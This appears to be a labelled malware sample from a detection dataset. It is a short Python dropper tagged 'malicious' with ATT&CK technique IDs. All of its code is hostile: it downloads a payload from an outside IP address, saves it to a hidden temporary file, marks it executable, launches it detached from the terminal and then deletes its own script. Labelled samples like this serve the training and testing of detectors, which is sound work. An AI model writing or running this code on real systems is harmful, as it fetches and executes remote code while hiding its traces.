# label: malicious family=dropper techniques=T1070.004,T1105,T1222.002,T1564.001 lines=3,5,7-9
import os, tempfile, urllib.request, subprocess
data = urllib.request.urlopen("http://198.51.100.19/m").read()
fd, path = tempfile.mkstemp(prefix=".")
os.write(fd, data)
os.close(fd)
os.chmod(path, 0o700)
subprocess.Popen(["nohup", path], stdout=open(os.devnull, "w"), stderr=subprocess.STDOUT, preexec_fn=os.setsid)
os.remove(__file__)
